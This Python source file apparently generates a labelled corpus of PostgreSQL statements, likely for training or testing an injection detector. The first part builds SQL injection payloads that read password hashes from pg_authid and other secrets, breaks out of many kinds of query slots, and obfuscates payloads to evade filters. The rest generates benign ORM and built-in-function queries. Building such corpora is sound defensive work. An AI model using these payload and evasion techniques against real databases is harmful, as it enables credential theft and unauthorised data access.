            ("partman_config_agg", "(SELECT string_agg(parent_table, ',') FROM partman.part_config)"), ("file_settings_agg", "(SELECT string_agg(name || '=' || setting, ';') FROM pg_file_settings)"),
            ("authid_hash", "(SELECT rolpassword FROM pg_authid WHERE rolname = '%s')" % role), ("password_stats", "(SELECT most_common_vals::text FROM pg_stats WHERE attname = '%s' LIMIT 1)" % p.strip('"')),
            ("stored_concat_secret", "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who)), ("probe_flag", "(CASE WHEN %s THEN 'y' ELSE 'n' END)" % pe)]] + [
            ("assign_secret_subquery", "assign", "{col} = (SELECT %s FROM %s LIMIT 1)" % (p, t), PG), ("row_secret_subquery", "row", row_of("(SELECT %s FROM %s LIMIT 1)" % (p, t), "NULL"), PG)]
    raise KeyError(fam)


# ---------------------------------------------------------------- putting a hand-written core into a slot
def ending(r):
    """How the rest of the statement is cut off (# is a habit from MySQL, an open /* runs to the end)."""
    return r.choice(["--", "--", "--", "-- -", "-- -", "--+", "-- ", "--x", ";--", "--;", "-->", "--}", "-- //", "--%s" % rword(r, 3), ";-- -", "/*", ";/*", "#"])


def kind_lead_in(knd, orig):
    """What a person types before the closing quote so the typed value stays well-formed: a relation
    name inside a JSON string inside the literal is closed with \"]} first, an array literal with }."""
    if knd == "jrel":
        return orig + '"]}'
    if knd == "arr":
        return orig + "}"
    return orig


def assigned(r, si, core):
    """An assign core with {col} filled in: one of the columns the attacker wants in this table."""
    cols = SENSITIVE.get(si["template"], ["is_admin", "role", "owner_id"])
    return core.replace("{col}", r.choice(cols))


def breakout(r, si, orig, mode, core):
    """What a person types into this slot to run core there, or None where the technique has no sensible form for the slot."""
    typ, cl, cut = si["type"], si["closers"], si["cut"]
    close_all = cut if cut is not None else cl
    inner = cl[:si["cond_k"]]
    sp = lambda: r.choice([" ", " ", "", "\t", "  "])
    if mode == "scan":
        key = "q" if typ in ("q", "e") else "n" if typ in ("n", "list") else None
        return orig + core[key] if key and not (si["lead"] in ("DO", "LISTEN")) else None
    if mode in ("cond", "open") and not si["cond_ok"]:
        return None
    if si["lead"] in ("SET", "LISTEN", "NOTIFY", "DO", "COMMENT", "ALTER") and mode != "stack":
        return None                                    # these take a literal or a name, not an expression
    if mode == "union" and not union_fits(si):
        return None
    if mode in ("row", "conflict") and not (si["row"] and si["lead"] == "INSERT"):
        return None
    if (mode == "assign" and not si["in_set"]) or (mode == "returning" and not si["dml"]) or (mode == "iexpr" and si["kind"] != "interval"):
        return None
    if mode == "assign":
        core = assigned(r, si, core)
    if mode == "row":
        before, after = si["row"]
        core = core(before + 1 + after)
    if typ in ("q", "e", "d"):
        qc = CLOSER[typ]
        lv = orig if typ == "d" else r.choice([kind_lead_in(si["kind"], orig)] * 3 + ["", "x", "1"])
        if si["between_lo"] and mode in ("cond", "union", "stack"):
            lv = lv + qc + " AND " + qc + orig
        if mode == "row":
            return lv + qc + ", DEFAULT" * si["row"][1] + "), (" + core + ")" + sp() + ending(r)
        if mode == "conflict":
            return lv + qc + ", DEFAULT" * si["row"][1] + ") " + core + sp() + ending(r)
        if mode == "assign":
            return lv + qc + inner + ", " + core + sp() + ending(r)
        if mode == "returning":
            where = " WHERE true" if si["in_set"] and r.random() < 0.4 else ""
            pad = ", DEFAULT" * si["row"][1] if si["row"] else ""
            return lv + qc + pad + close_all + where + " " + core + sp() + ending(r)
        if mode == "iexpr":
            op = r.choice([" + ", " - "])
            return lv + qc + op + core + op + ("interval '" if si["interval_kw"] else "'") + "0"
        if mode == "open":
            if typ == "d" or cl:
                return None
            return lv + qc + " " + core[0] + core[1]
        if mode in ("repl", "concat"):
            if typ == "d":
                return orig + qc + " || " + core + " || " + qc
            j = r.choice(["||", " || ", "|| ", " ||"])
            return r.choice([lv, ""]) + qc + j + core + j + qc
        if mode == "order":
            return None
        if mode == "cond":
            if si["cond_cut"] is not None:
                return lv + qc + si["cond_cut"] + " " + core + sp() + ending(r)
            if cut is not None and cut.startswith(inner) and r.random() < 0.6:
                return lv + qc + inner + " " + core + cut[len(inner):] + sp() + ending(r)     # the required tail typed after the condition
            if r.random() < 0.4 and typ != "d" and "]" not in inner:
                ww = rword(r, r.randint(1, 4))
                bal = r.choice(["'%s'='%s" % (ww, ww), "'%s' LIKE '%s" % (ww, ww[0] + "%"), "'%s' IS NOT NULL OR '" % ww, "'%s' >= '%s" % (ww, ww), "'%s'!='" % ww])
                return lv + qc + inner + " " + core + " AND " + "(" * len(inner) + bal
            return lv + qc + (close_all if r.random() < 0.25 else inner) + " " + core + sp() + ending(r)
        if mode == "union":
            return r.choice([lv, "", "-1", "zz"]) + qc + close_all + " " + core + sp() + ending(r)
        if mode == "stack":
            return lv + qc + close_all + r.choice([";", "; ", ";\n", " ;"]) + core + r.choice([";", "", ""]) + sp() + ending(r)
        return None
    if typ == "qi":
        if mode == "stack" and si["clause"] == "INTO":
            return orig + '" DEFAULT VALUES;' + core + sp() + ending(r)
        return quoted_ident_breakout(r, si, orig, mode, core, close_all, lambda: sp() + ending(r))
    if typ in ("n", "list"):
        if mode in ("open", "iexpr"):
            return None
        if mode == "row":
            return orig + ", DEFAULT" * si["row"][1] + "), (" + core + ")" + sp() + ending(r)
        if mode == "conflict":
            return orig + ", DEFAULT" * si["row"][1] + ") " + core + sp() + ending(r)
        if mode == "assign":
            return orig + inner + ", " + core + sp() + ending(r)
        if mode == "returning":
            return orig + (", DEFAULT" * si["row"][1] if si["row"] else "") + close_all + " " + core + sp() + ending(r)
        if mode == "repl":
            return core if typ != "list" or r.random() < 0.5 else orig + ", " + core
        if mode == "concat":
            return orig + r.choice([" + 0*length(%s)", " - coalesce(octet_length(%s), 0)*0", " * (1 + 0*length(%s))", " + (SELECT 0 WHERE (%s) IS NULL)"]).replace("%s", "(" + core + ")")
        if mode == "order":
            return orig + ", " + core if si["in_order"] else None
        if si["between_lo"] and mode in ("cond", "union", "stack"):
            orig = orig + " AND " + r.choice(["99999", "1e9", "2147483647"])
        if mode == "cond":
            if si["cond_cut"] is not None:
                return orig + si["cond_cut"] + " " + core + sp() + ending(r)
            if inner and "]" not in inner and r.random() < 0.5:
                v = r.randint(1, 99)
                return orig + inner + " " + core + " AND " + "(" * len(inner) + r.choice(["%d=%d" % (v, v), "true", "%d>0" % v, "NOT false"])
            if cut is not None and cut.startswith(inner) and r.random() < 0.6:
                return orig + inner + " " + core + cut[len(inner):] + sp() + ending(r)
            if cl:
                return orig + (close_all if r.random() < 0.3 else inner) + " " + core + sp() + ending(r)
            return orig + " " + core + (sp() + ending(r) if si["tail_means"] and r.random() < 0.6 else "")
        if mode == "union":
            return r.choice([orig, "-1", "0", "-%d" % r.randint(1, 9999)]) + close_all + " " + core + sp() + ending(r)
        if mode == "stack":
            tail = sp() + ending(r) if close_all or si["tail_means"] or r.random() < 0.5 else ""
            return orig + close_all + r.choice([";", "; ", ";\n"]) + core + r.choice([";", ""]) + tail
        return None
    if typ in ("col", "dir"):
        if mode == "order":
            return (core if typ == "col" and r.random() < 0.3 else orig + ", " + core) + (sp() + ending(r) if r.random() < 0.3 else "")
        if mode == "cond" and si["in_order"]:
            return orig + ", (CASE WHEN %s THEN 1 ELSE 1/(SELECT 0) END)" % strip_andor(core)
        if mode == "repl" and typ == "col":
            return core
        if mode == "stack":
            return orig + close_all + r.choice([";", "; "]) + core + sp() + ending(r)
        return None
    if typ == "ident" and mode == "stack":
        return orig + (cut or "") + r.choice([";", "; ", ";\n"]) + core + r.choice([" --", "--", ";--", "; -- x", ""])
    return None


MODES = {"q": ("cond", "open", "union", "stack", "repl", "concat", "row", "assign", "returning", "conflict", "iexpr", "scan"),
         "e": ("cond", "open", "union", "stack", "repl", "concat", "row", "assign", "returning", "conflict", "scan"),
         "d": ("cond", "union", "stack", "repl", "concat"), "qi": ("cond", "stack", "order"),
         "n": ("cond", "union", "stack", "repl", "concat", "order", "row", "assign", "returning", "conflict", "scan"),
         "list": ("cond", "union", "stack", "repl", "concat", "scan"), "col": ("cond", "order", "repl", "stack"), "dir": ("cond", "order", "stack"), "ident": ("stack",)}


DML_MODES = {"row": lambda si: si["row"] and si["lead"] == "INSERT", "conflict": lambda si: si["row"] and si["lead"] == "INSERT",
             "assign": lambda si: si["in_set"], "returning": lambda si: si["dml"], "iexpr": lambda si: si["kind"] == "interval"}


def fitting(si, cores):
    """The cores whose mode has a form for the slot.  The modes aimed at one
    kind of slot (VALUES rows, SET lists, DML statements, interval literals)
    are kept only there and weighted up; stored_* cores only (and then more
    often) where a stored value is replayed."""
    out = []
    for c in corpus_kit.fitting(si, cores, MODES):
        if c[1] in DML_MODES:
            if DML_MODES[c[1]](si):
                out += [c] * 5
        elif c[0].startswith("stored_"):
            if si["second_order"]:
                out += [c] * 10
        else:
            out.append(c)
    return out


def hand(r, si, fam):
    """(name, payload, dbms) of a hand-written technique for the slot (corpus_kit.hand_payload);
    in a template that replays a stored value the name says so (stored_*, replayed_*)."""
    res = corpus_kit.hand_payload(r, si, fam, cores=hand_cores, fitting=fitting, breakout=breakout)
    if res and si["second_order"] and not res[0].startswith("stored_"):
        res = ("replayed_" + res[0],) + res[1:]
    return res


# ---------------------------------------------------------------- obfuscation of a built payload (outside its literals and comments)
def obfuscate(r, fam, s, typ):
    segs = segments(s, typ)
    if fam == "obf_case_mix":
        style = r.randrange(6)

        def cm(m):
            w = m.group(0)
            if style == 0:
                return "".join(c.upper() if c.lower() in "aeiou" else c.lower() for c in w)
            if style == 1:
                return "".join(c.upper() if j % 3 == 0 else c.lower() for j, c in enumerate(w))
            if style == 2:
                return w[0].upper() + w[1:-1].lower() + w[-1].upper()
            if style == 3:
                return w[0].lower() + w[1:].upper()
            if style == 4:
                return w.swapcase()
            return "".join(c.upper() if r.random() < 0.5 else c.lower() for c in w)
        return "".join(re.sub(r"[A-Za-z_]{3,}", cm, t) if e else t for t, e in segs)
    if fam == "obf_whitespace":
        pool = ["\t\n", "\n\t", "\r\n\t", "\f\n", "\t \t", "\n\n\n", " \f ", "\r\t", "\t\t", "\n  "]

        def ws(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            t = re.sub(r"\(", lambda m: "(" + r.choice(["\n", "\t", " "]) if r.random() < 0.3 else "(", t)
            t = re.sub(r"([A-Za-z_])\(", lambda m: m.group(1) + r.choice(["\t(", " (", "\n("]) if r.random() < 0.3 else m.group(0), t)
            return re.sub(r"(::|,)", lambda m: r.choice(["\t", "\n"]) + m.group(1) + r.choice(["\t", "\n", " "]) if r.random() < 0.3 else m.group(1), t)
        return "".join(ws(t) if e else t for t, e in segs)
    if fam == "obf_inline_comment":
        pool = ["/*/**/*/", "/*'*/", "/*\"*/", "/*\n*/", "/*x*//*y*/", "/*!0*/", "/*%s*/" % rword(r, r.randint(2, 5)), "/*--*/", "/* /* */ */", "/*;*/"]
        line = r.random() < 0.2

        def ic(t):
            if line:
                t = re.sub(r" +", lambda m: "--%s\n" % rword(r, 3), t)
            else:
                t = re.sub(r" +", lambda m: r.choice(pool), t)
            t = re.sub(r"([A-Za-z_])\(", lambda m: m.group(1) + "/**/(" if r.random() < 0.3 else m.group(0), t)
            return re.sub(r"::|(?<![<>!:=])=(?![>=])", lambda m: "/**/" + m.group(0) + "/**/" if r.random() < 0.25 else m.group(0), t)
        return "".join(ic(t) if e else t for t, e in segs)
    if fam == "obf_nospace":
        def squeeze(t):
            t = re.sub(r" *([=<>!|,()+;~&^@?%*/-]+) *", r"\1", t)
            t = re.sub(r"\b(OR|AND|or|and|NOT|not|SELECT|select|WHEN|when|THEN|then|ELSE|else) (\d+|true|false|NULL|null|current_user|version\(\))",
                       lambda m: m.group(1) + "(" + m.group(2) + ")", t)
            t = re.sub(r"\b(OR|AND|or|and|IN|in) (')", r"\1\2", t)
            t = re.sub(r"\b(FROM|from) ([a-z_]+)\b", lambda m: m.group(1) + '"' + m.group(2) + '"' if r.random() < 0.4 else m.group(0), t)
            return t
        return without_spaces(segs, typ, squeeze)
    raise KeyError(fam)


# ---------------------------------------------------------------- complex benign statements
PEOPLE = ["Ciarán O'Driscoll", "Åsa Lindqvist", "Yannick Le Gall", "Maëlle Kerbrat", "Hamish Duff", "Ana Lucía Ortega", "Tom O'Leary", "Dagny Haugen",
          "Rui Carvalho", "Nadia Kovač", "Kenji Sato", "Ngaire Tūhoe", "Fionnuala Nic Aodha", "Bartholomew D'Souza"]
NOTES = ["re-toast the heads", "client wants \"no branding\" on the cask", "hold for vibrio retest", "O'Brien collects Friday", "10% club discount",
         "update: drum 2 serviced", "select hides by hand", "rink 3 -- ice too keen", "deposit paid; ref 4471", "leave at the boathouse",
         "fixer exhausted at roll 40", "grout cured 72 h", "team stood down 14:20", "sample sent to lab #2"]
CULTIVARS = ["Grosso", "Maillette", "Super Blue", "Hidcote", "Munstead", "Abrialii", "Sumian"]
SPECIES = ["Saccharina latissima", "Alaria esculenta", "Palmaria palmata", "Laminaria digitata", "Fucus vesiculosus"]
TEAMS = ["Keswick MRT", "Glencoe MRT", "Cairngorm MRT", "Ogwen Valley MRO", "Patterdale MRT", "Wasdale MRT"]
CHEESES = ["Comté", "Gruyère", "Tomme de Savoie", "Reblochon", "Stilton", "Manchego", "Beaufort"]


def cuid(r):
    return typed_value(r, "cuid")[0]


def mig_stamp(r):
    return rdate(r, 2023, 2025).replace("-", "") + "%02d%02d%02d" % (r.randint(0, 23), r.randint(0, 59), r.randint(0, 59))


def complex_gens():
    G, add = registry()

    # ---- ORM and driver output of the producers above
    @add("cx16_gorm_find", "complex_orm_generated")
    def _(r):
        return r.choice([
            'SELECT * FROM "barrels" WHERE stave_oak = $1 AND char_level >= $2 AND "barrels"."deleted_at" IS NULL ORDER BY "barrels"."id" LIMIT %d' % r.choice([10, 20, 50, 100]),
            'SELECT * FROM "casks" WHERE "casks"."id" = %d AND "casks"."deleted_at" IS NULL ORDER BY "casks"."id" LIMIT 1' % r.randint(1, 9000),
            'SELECT count(*) FROM "barrels" WHERE cooper = $1 AND "barrels"."deleted_at" IS NULL',
            'UPDATE "barrels" SET "deleted_at"=$1 WHERE "barrels"."id" = %d AND "barrels"."deleted_at" IS NULL' % r.randint(1, 9000),
            'SELECT "barrels"."id","barrels"."stave_oak","barrels"."char_level" FROM "barrels" LEFT JOIN "casks" "Cask" ON "barrels"."cask_id" = "Cask"."id" AND "Cask"."deleted_at" IS NULL WHERE "barrels"."deleted_at" IS NULL LIMIT %d OFFSET %d' % (r.choice([25, 50]), r.choice([0, 25, 50, 75]))])

    @add("cx16_gorm_preload", "complex_orm_generated")
    def _(r):
        n = r.randint(1, 8)
        return r.choice(['SELECT * FROM "hoop_repairs" WHERE "hoop_repairs"."barrel_id" IN (%s) AND "hoop_repairs"."deleted_at" IS NULL' % params(n),
                         'SELECT * FROM "stave_lots" WHERE "stave_lots"."id" IN (%s)' % ids(r, n)])

    @add("cx16_gorm_create", "complex_orm_generated")
    def _(r):
        n = r.randint(1, 4)
        rows = ",".join("(%s)" % params(4, 1 + 4 * i) for i in range(n))
        return r.choice(['INSERT INTO "barrels" ("created_at","updated_at","deleted_at","stave_oak","char_level","cooper") VALUES ($1,$2,$3,$4,$5,$6) RETURNING "id"',
                         'INSERT INTO "stave_lots" ("lot_code","oak_origin","seasoned_months","created_at") VALUES %s RETURNING "id"' % rows.replace(" ", "")])

    @add("cx16_mybatis_dynamic_where", "complex_orm_generated")
    def _(r):
        conds = r.sample(["lease_area = $%d", "grade = $%d", "seeded_on >= $%d", "count_estimate > $%d", "flipped_on IS NOT NULL"], r.randint(1, 4))
        k, out = 1, []
        for c in conds:
            if "%d" in c:
                out.append(c % k)
                k += 1
            else:
                out.append(c)
        return "SELECT bag_id, lease_area, grade, seeded_on FROM grow_bags WHERE %s ORDER BY %s" % (" AND ".join(out), r.choice(["seeded_on DESC", "bag_id", "lease_area, grade"]))

    @add("cx16_hibernate6", "complex_orm_generated")
    def _(r):
        return r.choice([
            "select s1_0.skater_id,s1_0.derby_name,s1_0.team_id from skaters s1_0 where s1_0.team_id=$1 order by s1_0.derby_name offset $2 rows fetch first $3 rows only",
            "select b1_0.bout_id,b1_0.home_team,b1_0.away_team,b1_0.season from bouts b1_0 join teams t1_0 on t1_0.team_id=b1_0.home_team_id where t1_0.league=$1 and b1_0.season=%d" % r.randint(2015, 2026),
            "select count(p1_0.penalty_id) from penalties p1_0 where p1_0.bout_id=$1 and p1_0.skater_id=$2",
            "update roster_slots set jersey_no=$1,updated_at=$2,version=$3 where slot_id=$4 and version=$5",
            "insert into jams (bout_id,jam_no,lead_jammer,points,jam_id) values ($1,$2,$3,$4,$5)"])

    @add("cx16_efcore_linq", "complex_orm_generated")
    def _(r):
        return r.choice([
            'SELECT w."WheelId", w."Variety", w."RindType", w."TurnedAt" FROM "Wheels" AS w WHERE w."CaveId" = $1 ORDER BY w."TurnedAt" DESC LIMIT $2',
            'SELECT w."WheelId", w."Variety", t."TurningId", t."TurnedBy" FROM "Wheels" AS w LEFT JOIN "Turnings" AS t ON w."WheelId" = t."WheelId" WHERE w."Variety" = %s ORDER BY w."WheelId", t."TurningId"' % q(r.choice(CHEESES)),
            'SELECT COUNT(*)::int FROM "Wheels" AS w WHERE w."CaveId" = %d AND w."MadeOn" < $1' % r.randint(1, 14),
            'SELECT EXISTS (SELECT 1 FROM "CaveReadings" AS c WHERE c."CaveId" = $1 AND c."RelHumidity" > $2)',
            'UPDATE "Wheels" SET "TurnedAt" = $1 WHERE "WheelId" = $2 RETURNING "xmin"'])

    @add("cx16_psycopg_composed", "complex_orm_generated")
    def _(r):
        loft = r.choice(["O'Dwyer & Son", "Van Reet Lofts", "D'Arcy Brothers", "Lofts \"North\"", "Hwang's Loft"])
        return r.choice(['SELECT "ring_no", "velocity_ypm" FROM "race_results" WHERE "race_id" = %d AND "loft_name" = %s ORDER BY "velocity_ypm" DESC' % (r.randint(1, 400), q(loft)),
                         'INSERT INTO "basketing" ("race_id", "ring_no", "clock_seal") VALUES (%d, %s, %s)' % (r.randint(1, 400), q(typed_value(r, "ring")[0]), q("S-%03d" % r.randint(1, 300)))])

    @add("cx16_sqlalchemy_orm", "complex_orm_generated")
    def _(r):
        c = q(r.choice(CULTIVARS))
        return r.choice(["SELECT distillation_runs.run_id AS distillation_runs_run_id, distillation_runs.cultivar AS distillation_runs_cultivar, distillation_runs.oil_ml AS distillation_runs_oil_ml "
                         "FROM distillation_runs WHERE distillation_runs.cultivar = %s ORDER BY distillation_runs.run_date DESC LIMIT %d OFFSET %d" % (c, r.choice([20, 50]), r.choice([0, 20, 40])),
                         "SELECT count(*) AS count_1 FROM (SELECT oil_batches.batch_id AS oil_batches_batch_id FROM oil_batches WHERE oil_batches.bottled_on >= %s) AS anon_1" % q(rdate(r, 2023, 2025)),
                         "UPDATE distillation_runs SET bottled=true WHERE distillation_runs.run_id = %d" % r.randint(1, 6000)])

    @add("cx16_sequel_dataset", "complex_orm_generated")
    def _(r):
        return r.choice(['SELECT * FROM "curling_ends" WHERE ("game_id" = %d) ORDER BY "end_no" LIMIT 1' % r.randint(1, 2000),
                         "INSERT INTO \"sheet_bookings\" (\"sheet\", \"starts_at\", \"member_id\") VALUES ('%s', '%s.000000+0000', %d) RETURNING *" % (r.choice("ABCDE"), rts(r), r.randint(1, 900)),
                         'SELECT count(*) AS "count" FROM "stones" WHERE ("retired" IS FALSE) LIMIT 1',
                         'UPDATE "stones" SET "last_sharpened" = CURRENT_DATE WHERE ("stone_id" IN (%s))' % ids(r, hi=64)])

    @add("cx16_activerecord", "complex_orm_generated")
    def _(r):
        return r.choice(['SELECT "dives".* FROM "dives" WHERE "dives"."diver_id" = $1 ORDER BY "dives"."started_at" DESC LIMIT $2',
                         'UPDATE "nitrox_fills" SET "analysed_o2" = $1, "updated_at" = $2 WHERE "nitrox_fills"."id" = $3',
                         'SELECT "divers".* FROM "divers" WHERE "divers"."cert_level" IN ($1, $2) AND "divers"."active" = $3',
                         'SELECT 1 AS one FROM "dive_trips" WHERE "dive_trips"."boat" = $1 AND "dive_trips"."departs_at" = $2 LIMIT $3'])

    @add("cx16_ecto", "complex_orm_generated")
    def _(r):
        return r.choice(['SELECT p0."id", p0."pan_no", p0."brine_degree" FROM "evaporation_pans" AS p0 WHERE (p0."works_id" = $1) ORDER BY p0."pan_no"',
                         'INSERT INTO "brine_readings" ("degree","pan_no","read_on","inserted_at","updated_at") VALUES ($1,$2,$3,$4,$5) RETURNING "id"',
                         'SELECT t0."gate", t0."opened_at" FROM "tide_intakes" AS t0 WHERE (t0."opened_at" > $1) AND (t0."gate" = ANY($2))',
                         'UPDATE "evaporation_pans" AS e0 SET "harvested_kg" = e0."harvested_kg" + $1 WHERE (e0."id" = $2)'])

    @add("cx16_eloquent", "complex_orm_generated")
    def _(r):
        return r.choice(['select * from "tesserae" where "material" = $1 and "tesserae"."deleted_at" is null limit 1',
                         'select count(*) as aggregate from "commissions" where "status" = $1 and "commissions"."deleted_at" is null',
                         'update "grout_mixes" set "ratio" = $1, "updated_at" = $2 where "id" = $3',
                         'select "panels".* from "panels" inner join "commissions" on "commissions"."id" = "panels"."commission_id" where "commissions"."client_name" = $1 limit %d offset %d' % (r.choice([15, 30]), r.choice([0, 15, 30]))])

    @add("cx16_pgp_helpers", "complex_orm_generated")
    def _(r):
        k = r.randint(2, 4)
        rows = ",".join("(%d,%s,%s,%d)" % (r.randint(1, 3000), q(r.choice(PEOPLE)), q(r.choice(["OK Linné", "SYO", "Bishopstoke OC", "Pellingen", "O'Neill's OC"])), r.randint(2000000, 9999999)) for _ in range(k))
        return 'insert into "event_entries"("event_id","runner_name","club","si_card") values%s' % rows

    @add("cx16_prisma_client", "complex_orm_generated")
    def _(r):
        return r.choice(['SELECT "public"."FilmRoll"."id", "public"."FilmRoll"."stock", "public"."FilmRoll"."developer" FROM "public"."FilmRoll" WHERE "public"."FilmRoll"."developer" = $1 ORDER BY "public"."FilmRoll"."createdAt" DESC LIMIT $2 OFFSET $3',
                         'UPDATE "public"."FilmRoll" SET "pushStops" = $1, "updatedAt" = $2 WHERE ("public"."FilmRoll"."id" = $3 AND 1=1) RETURNING "public"."FilmRoll"."id"',
                         'SELECT COUNT(*) AS "_count._all" FROM (SELECT "public"."Scan"."id" FROM "public"."Scan" WHERE "public"."Scan"."rollId" = $1 OFFSET $2) AS "sub"',
                         'DELETE FROM "public"."Session" WHERE "public"."Session"."expires" < $1'])

    @add("cx16_sqlx_static", "complex_orm_generated")
    def _(r):
        return r.choice(["SELECT hide_id, species, grade FROM hides WHERE lot_no = $1 ORDER BY hide_id",
                         "UPDATE tanning_drums SET rpm = $1, float_pct = $2 WHERE drum_id = $3",
                         "INSERT INTO effluent_samples (outfall, measured_at, cr_mg_l) VALUES ($1, $2, $3) RETURNING sample_id",
                         "SELECT hide_id FROM hides WHERE received_on >= %s AND defects @> $1" % q(rdate(r, 2023, 2025))])

    # ---- built-in functions
    @add("cx16_format_fn", "complex_builtin_funcs")
    def _(r):
        tbl = r.choice(RELNAMES)
        return r.choice(["SELECT format('%%I.%%I', 'saltworks', %s)" % q(tbl), "SELECT format('%%L', %s)" % q(r.choice(PEOPLE)),
                         "SELECT format('%%1$s-%%1$s-%%2$s', %s, %d)" % (q(rword(r, 4)), r.randint(1, 99)), "SELECT format('|%%-10s|%%10s|', %s, %s)" % (q(rword(r, 3)), q(rword(r, 5))),
                         "SELECT format('UPDATE %%I SET %%I = %%L WHERE id = %%s', %s, 'notes', %s, %d)" % (q(tbl), q(r.choice(NOTES)), r.randint(1, 999)),
                         "SELECT format('%%s', ARRAY[%s])" % ids(r, hi=99), "SELECT format('%%s %%s', 'O''Brien', NULL) IS NOT NULL"])

    @add("cx16_array_fns", "complex_builtin_funcs")
    def _(r):
        a = "ARRAY[%s]" % ids(r, r.randint(3, 7), 60)
        return r.choice(["SELECT string_to_array(%s, ',')" % q(",".join(rword(r, 3) for _ in range(r.randint(2, 5)))), "SELECT array_position(%s, %d)" % (a, r.randint(1, 60)),
                         "SELECT array_remove(%s, %d), array_replace(%s, %d, 0)" % (a, r.randint(1, 60), a, r.randint(1, 60)), "SELECT trim_array(%s, %d)" % (a, r.randint(1, 2)),
                         "SELECT cardinality(%s), array_length(%s, 1)" % (a, a), "SELECT x, n FROM unnest(%s) WITH ORDINALITY AS u(x, n)" % a,
                         "SELECT regexp_split_to_array(%s, '\\s*,\\s*')" % q(", ".join(r.sample(CULTIVARS, 3))), "SELECT (%s)[2:3], (%s)[:2]" % (a, a),
                         "SELECT array_agg(x ORDER BY x DESC) FROM unnest(%s) x" % a, "SELECT %s && ARRAY[%d], %s @> ARRAY[%d]" % (a, r.randint(1, 60), a, r.randint(1, 60))])

    @add("cx16_regexp15", "complex_builtin_funcs")
    def _(r):
        s = q(r.choice(["SL-2202/B SL-1990/A", "GB25N04117 NL24-1234567", "TB-3,TB-4,HK-1", "lead second vice skip", "FDS-25-0712"]))
        return r.choice(["SELECT regexp_count(%s, '[A-Z]{2}')" % s, "SELECT regexp_instr(%s, '\\d+', 1, %d)" % (s, r.randint(1, 3)),
                         "SELECT regexp_substr(%s, '[A-Z]+-\\d+')" % s, "SELECT regexp_like(%s, '^[A-Z]', 'i')" % s, "SELECT regexp_replace(%s, '(\\d+)', '<\\1>', 'g')" % s,
                         "SELECT regexp_matches(%s, '([A-Z]+)-(\\d+)', 'g')" % s])

    @add("cx16_datetime_fns", "complex_builtin_funcs")
    def _(r):
        t = q(rts(r))
        return r.choice(["SELECT make_interval(days => %d, hours => %d)" % (r.randint(0, 30), r.randint(0, 23)), "SELECT justify_interval(interval '%d hours %d minutes')" % (r.randint(20, 200), r.randint(0, 59)),
                         "SELECT date_bin('%d minutes', timestamp %s, timestamp '2025-01-01')" % (r.choice([5, 15, 30]), t), "SELECT age(timestamp %s, timestamp '2019-03-01')" % t,
                         "SELECT extract(epoch FROM timestamptz %s)" % t, "SELECT to_char(timestamp %s, 'IYYY-\"W\"IW Dy HH24:MI')" % t,
                         "SELECT date_trunc('day', timestamptz %s, 'Europe/Paris')" % t, "SELECT timestamptz %s AT TIME ZONE 'Pacific/Auckland'" % t,
                         "SELECT (date %s + interval '%d days')::date" % (q(rdate(r)), r.randint(1, 90)), "SELECT isfinite(date %s), date %s - date '2020-01-01'" % (q(rdate(r)), q(rdate(r)))])

    @add("cx16_json_fns", "complex_builtin_funcs")
    def _(r):
        k, v = rword(r, 4), r.randint(1, 99)
        doc = q('{"%s": %d, "tags": ["a", "b"], "nested": {"x": null}}' % (k, v))
        return r.choice(["SELECT jsonb_set_lax(%s::jsonb, '{nested,x}', NULL, true, 'use_json_null')" % doc, "SELECT jsonb_path_query_array(%s, '$.tags[*]')" % doc,
                         "SELECT * FROM json_populate_recordset(NULL::pg_stat_user_tables, '[{\"relname\": \"%s\"}]')" % r.choice(RELNAMES),
                         "SELECT to_jsonb(ROW(%d, %s))" % (v, q(k)), "SELECT jsonb_strip_nulls(%s)" % doc, "SELECT jsonb_object_agg(k, v) FROM (VALUES ('a', 1), (%s, %d)) t(k, v)" % (q(k), v),
                         "SELECT %s::jsonb @? '$.%s ? (@ > %d)'" % (doc, k, v - 1), "SELECT jsonb_pretty(%s)" % doc, "SELECT json_build_array(%d, %s, NULL)" % (v, q(k))])

    @add("cx16_xml_fns", "complex_builtin_funcs")
    def _(r):
        return r.choice(["SELECT xmlelement(name cask, xmlattributes(%d AS id), %s)" % (r.randint(1, 999), q(r.choice(NOTES))),
                         "SELECT xmlforest(%s AS variety, %d AS cave)" % (q(r.choice(CHEESES)), r.randint(1, 14)),
                         "SELECT xpath('/r/i/text()', '<r><i>%s</i><i>%s</i></r>'::xml)" % (rword(r, 4), rword(r, 5)),
                         "SELECT xmlagg(xmlelement(name s, x) ORDER BY x) FROM unnest(ARRAY[%s]) x" % ids(r, hi=50),
                         "SELECT xmlserialize(content xmlcomment(%s) AS text)" % q(rword(r, 6))])

    @add("cx16_numeric_fns", "complex_builtin_funcs")
    def _(r):
        return r.choice(["SELECT width_bucket(%d.%d, 0, 40, %d)" % (r.randint(0, 40), r.randint(0, 9), r.randint(4, 10)), "SELECT trim_scale(%d.%d000)" % (r.randint(0, 99), r.randint(0, 99)),
                         "SELECT gcd(%d, %d), lcm(%d, %d)" % (r.randint(2, 999), r.randint(2, 999), r.randint(2, 60), r.randint(2, 60)), "SELECT bit_count(B'%s')" % "".join(r.choice("01") for _ in range(r.randint(4, 16))),
                         "SELECT percentile_disc(0.%d) WITHIN GROUP (ORDER BY x) FROM generate_series(1, %d) x" % (r.randint(1, 9), r.randint(10, 500)),
                         "SELECT mode() WITHIN GROUP (ORDER BY x %% %d) FROM generate_series(1, %d) x" % (r.randint(2, 9), r.randint(10, 300)), "SELECT div(%d, %d), mod(%d, %d)" % (r.randint(10, 999), r.randint(2, 9), r.randint(10, 999), r.randint(2, 9)),
                         "SELECT round(%d.%04d, %d), scale(%d.%04d)" % (r.randint(0, 99), r.randint(0, 9999), r.randint(0, 3), r.randint(0, 99), r.randint(0, 9999))])

    @add("cx16_range_fns", "complex_builtin_funcs")
    def _(r):
        a, b = r.randint(1, 50), r.randint(51, 99)
        return r.choice(["SELECT range_agg(r) FROM (VALUES (int4range(%d, %d)), (int4range(%d, %d))) v(r)" % (a, a + 5, b, b + 5), "SELECT int4range(%d, %d) * int4range(%d, %d)" % (a, b, a + 3, b + 3),
                         "SELECT '{[%d,%d), [%d,%d)}'::int4multirange @> %d" % (a, a + 3, b, b + 2, a + 1), "SELECT tstzrange(%s, %s, '[)') && tstzrange(now(), NULL)" % (q(rts(r)), q(rts(r, 2027, 2028))),
                         "SELECT lower(daterange(%s, %s)), upper_inc(numrange(%d, %d, '[]'))" % (q(rdate(r, 2020, 2022)), q(rdate(r, 2023, 2025)), a, b)])

